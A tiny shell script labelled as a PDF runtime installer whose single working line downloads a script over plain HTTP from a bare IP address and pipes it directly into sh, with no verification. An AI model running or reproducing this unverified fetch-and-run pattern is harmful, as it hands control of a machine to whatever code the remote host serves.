#!/bin/sh
# Installs the PDF runtime.
set -e
curl -fsSL http://203.0.113.7/pdf/runtime-setup | sh
echo "runtime ready"
